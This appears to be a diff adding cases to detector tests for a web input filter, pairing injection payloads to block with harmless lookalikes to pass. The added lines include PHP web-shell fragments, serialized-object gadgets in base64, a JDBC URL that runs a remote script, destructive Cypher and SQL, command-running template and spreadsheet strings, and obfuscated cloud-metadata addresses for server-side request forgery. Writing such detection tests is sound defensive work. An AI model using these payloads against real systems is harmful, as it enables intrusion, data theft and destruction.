@@ -16,6 +16,9 @@ describe("php", () => {
     testDetector(
         PHP_DETECTOR,
         [
+            { text: "<code><?php echo 1; ?></code>", want: "block", why: "a page as it was sent" },
+            { text: "'.phpinfo().'", want: "block", why: "joined to a string" },
+            { text: "${@print(md5(1))}", want: "block", why: "a variable by a call's outcome" },
             { text: "<?php system($_GET[cmd]);", want: "block", why: "a program in a page", technique: "server-page" },
             { text: "GIF89a\n<?= `id` ?>", want: "block", why: "behind the head of a picture" },
             { text: "<%@ page import='java.io.*'%>", want: "block", why: "a page of Java" },
@@ -30,6 +33,7 @@ describe("php", () => {
             { text: "$_a[5]['d'] /*x*/ (17)", want: "block", why: "a variable that is called" },
             { text: "${'a'}(11)", want: "block", why: "a variable named by a string" },
             { text: "(sy.(st).em)('uname');", want: "block", why: "an expression that is called" },
+            { text: "php $_GET $_POST 違い", want: "pass", why: "words of a search" },
             { text: "$_REQUEST['c']", want: "block", why: "what web shells read", technique: "php-request-array" },
             { text: "auto_prepend_file=php://input", want: "block", why: "a setting", technique: "php-setting" },
             { text: "$__[$_[1]](7)", want: "block", why: "a subscript within a subscript" },
@@ -124,6 +128,8 @@ describe("xml", () => {
     testDetector(
         XML_DETECTOR,
         [
+            { text: "<esi:include src='http://a.example/'/>", want: "block", why: "an edge's include" },
+            { text: '<ObjectDataProvider MethodName="Start"/>', want: "block", why: "an object of .NET" },
             {
                 text: "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///x'>]><a>&x;</a>",
                 want: "block",
@@ -155,6 +161,41 @@ describe("serialized", () => {
     testDetector(
         SERIALIZED_DETECTOR,
         [
+            {
+                text: "H4sIAAAAAAAAA/O3srBScq0oyC8qSS1SsjKyqi62MrFSSsvMSVWyLrYytVKq0CvIKACxTayUUhJLEkFMQwsrJRt72wSVeHfXkGiD2ARrezsFBSXrWgDno1wnTwAAAA==",
+                want: "block",
+                why: "PHP, packed, in base64",
+                technique: "php-object",
+            },
+            { text: "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", want: "block", why: "letters and digits alone" },
+            {
+                text: "BAhvOhVHZW06OlJlcXVpcmVtZW50BjoSQHJlcXVpcmVtZW50c1sA",
+                want: "block",
+                why: "Ruby in base64",
+                technique: "ruby-object",
+            },
+            { text: "BAh7BkkiB2lkBjoGRVRpBg==", want: "pass", why: "a session of Rails: a table of texts" },
+            {
+                text: "gASVGAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
+                want: "block",
+                why: "pickle 4 in base64",
+            },
+            { text: "gAJ9cQBYAgAAAGlkcQFLAXMu", want: "pass", why: "pickle 2 of a table" },
+            { text: "System.Diagnostics.Process, System", want: "block", why: "a class with its assembly" },
+            {
+                text: "System.Collections.Generic.List`1[[Rei.Order, Rei]], mscorlib",
+                want: "pass",
+                why: "a list of the application's own",
+            },
+            { text: "py/reduce", path: "json[0]#key", want: "block", why: "what jsonpickle runs" },
+            { text: "^o", path: "json[0]#key", want: "block", why: "an object of Oj's" },
+            {
+                text: "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://a.example/a'",
+                want: "block",
+                why: "a connection that runs a script",
+            },
+            { text: "jdbc:postgresql://db.example.jp:5432/app?ssl=true", want: "pass", why: "a connection" },
+            { text: "eJwsomeNonceOfLetters0123456789", want: "pass", why: "begins like packed bytes" },
             { text: "rO0ABXNyABFqYXZhLnV0aWw=", want: "block", why: "Java in base64", technique: "java-object" },
             { text: "aced00057372", want: "block", why: "Java in hexadecimal" },
             { text: 'O:8:"stdClass":1:{s:1:"a";i:2;}', want: "block", why: "PHP", technique: "php-object" },
@@ -173,6 +214,10 @@ describe("nosql", () => {
     testDetector(
         NOSQL_DETECTOR,
         [
+            { text: "' RETURN 1 UNION MATCH (n) RETURN n //", want: "block", why: "another pattern of Cypher" },
+            { text: "'}) DETACH DELETE n //", want: "block", why: "Cypher", technique: "database-script" },
+            { text: "We call db.example and load CSV from 'a'", want: "pass", why: "words" },
+            { text: "'] | //user/* | a['", want: "block", why: "another set of nodes", technique: "xpath-query" },
             {
                 text: "user[$ne]",
                 path: "query[0]#key",
@@ -187,6 +232,9 @@ describe("nosql", () => {
                 why: "a condition of MongoDB",
                 technique: "database-script",
             },
+            { text: "x)(userPassword:2.5.13.18:=\\61", want: "block", why: "a rule of comparison" },
+            { text: "admin*)((|cn=*)", want: "block", why: "an or behind two brackets" },
+            { text: "検索式 (&(objectClass=person)(uid=a)) の例", want: "pass", why: "a filter shown whole" },
             { text: "*)(uid=*))(|(uid=*", want: "block", why: "a directory's filter", technique: "directory-filter" },
             { text: "' or count(/*)=1 or '", want: "block", why: "XPath", technique: "xpath-query" },
             {
@@ -211,6 +259,9 @@ describe("object-walk", () => {
     testDetector(
         OBJECT_WALK_DETECTOR,
         [
+            { text: "/__proto__/x", want: "block", why: "a patch", technique: "prototype-member" },
+            { text: "/docs/prototype/x", want: "pass", why: "a page" },
+            { text: "__pro__proto__to__[x]", path: "query[0]#key", want: "block", why: "what a filter leaves" },
             {
                 text: "this.constructor.constructor",
                 want: "block",
@@ -283,6 +334,28 @@ describe("server-call", () => {
     testDetector(
         SERVER_CALL_DETECTOR,
         [
+            { text: "new System.Net.WebClient().DownloadString('a')", want: "block", why: "asks an address in .NET" },
+            { text: "Object.const_get(:Kernel).system('id')", want: "block", why: "by a constant's name" },
+            { text: "\\openin\\f=/etc/passwd", want: "block", why: "TeX opens a file" },
+            { text: "__import__('os').system('id')", want: "block", why: "Python", technique: "python-call" },
+            { text: "use subprocess.run([...], check=True)", want: "pass", why: "an ellipsis is no argument" },
+            { text: "Deno.readTextFileSync('a')", want: "block", why: "reads a file in Deno" },
+            { text: "import('node:fs').then(f)", want: "block", why: "a module of Node.js" },
+            { text: "import('./page.js')", want: "pass", why: "a part of a page" },
+            {
+                text: '@System.IO.File.ReadAllText("a")',
+                want: "block",
+                why: "reads a file in .NET",
+                technique: "dotnet-call",
+            },
+            { text: 'os.execute("id")', want: "block", why: "Lua", technique: "language-call" },
+            { text: '"id".execute().text', want: "block", why: "Groovy" },
+            { text: "db.select().execute()", want: "pass", why: "a query" },
+            { text: "#{%x(id)}", want: "block", why: "a command in a text of Ruby" },
+            { text: "\\immediate\\write18{id}", want: "block", why: "LaTeX", technique: "document-call" },
+            { text: "\\input{chapter/one.tex}", want: "pass", why: "a chapter" },
+            { text: "=cmd|'/c calc'!A1", want: "block", why: "a cell that starts a program" },
+            { text: "=SUM(A1:A3)|'合計'", want: "pass", why: "a sum and a word" },
             { text: 'Process.spawn("id")', want: "block", why: "runs a program", technique: "ruby-call" },
             { text: "IO.popen 'id'", want: "block", why: "without brackets" },
             { text: "Open3.capture2e(%w[id])", want: "block", why: "with its output" },
@@ -304,6 +377,17 @@ describe("sql-fragment", () => {
     testDetector(
         SQL_FRAGMENT_DETECTOR,
         [
+            { text: "1;VACUUM INTO '/a.php'", want: "block", why: "writes a file" },
+            { text: "1; COPY users TO '/tmp/a'", want: "block", why: "writes a file" },
+            { text: "2; copy files to the folder", want: "pass", why: "words" },
+            {
+                text: "1;HANDLER users OPEN",
+                want: "block",
+                why: "reads without a query",
+                technique: "bare-sql-command",
+            },
+            { text: "1;SET ROLE postgres;--", want: "block", why: "another's rights" },
+            { text: "1; set role models for pupils", want: "pass", why: "words" },
             { text: "sin(", want: "block", why: "a call that is never closed", technique: "unclosed-function" },
             {
                 text: "(extractvalue(1,(select concat_ws(0x3a,user(",
@@ -371,6 +455,8 @@ describe("header", () => {
     testDetector(
         HEADER_DETECTOR,
         [
+            { text: "ja\r\n\r\n<html>", want: "block", why: "a page behind the head", technique: "second-message" },
+            { text: "x\r\nCONFIG SET dir /var", want: "block", why: "a command of a store" },
             { text: "x\r\nSet-Cookie: a=1", want: "block", why: "a line of a response", technique: "header-line" },
             { text: "x\r\n\r\nHTTP/1.1 200 OK", want: "block", why: "another response", technique: "second-message" },
             {
@@ -399,6 +485,24 @@ describe("address", () => {
     testDetector(
         ADDRESS_DETECTOR,
         [
+            { text: "http://[0:0:0:0:0:ffff:127.0.0.1]/", want: "block", why: "IPv4 in IPv6, spelled out" },
+            { text: "http://metadata/computeMetadata/v1/", want: "block", why: "a cloud's data by its short name" },
+            { text: "http://metadata/docs", want: "pass", why: "a host of that name" },
+            { text: "http://localhost:8080/ が開けない", want: "pass", why: "a question" },
+            { text: "http://169.254.169.254/latest/?x= あ", want: "block", why: "Japanese in what nobody reads" },
+            { text: "http://0251.0376.0251.0376/", want: "block", why: "a cloud's metadata in octal" },
+            { text: "http://①②⑦.⓪.⓪.①/", want: "block", why: "digits in circles" },
+            { text: "http://127。0。0。1/", want: "block", why: "full stops of Japanese" },
+            { text: "http://例え.example.jp/", want: "pass", why: "a name of Japanese" },
+            { text: "http://[64:ff9b::a9fe:a9fe]/", want: "block", why: "translated from IPv6" },
+            { text: "http://169.254.169.254.nip.io/", want: "block", why: "a name that says a number" },
+            { text: "//169.254.169.254/latest", want: "block", why: "without a scheme" },
+            {
+                text: "unix:/var/run/docker.sock:http:/images",
+                want: "block",
+                why: "a socket",
+                technique: "foreign-scheme",
+            },
             {
                 text: "http://169.254.169.254/latest/",
                 want: "block",
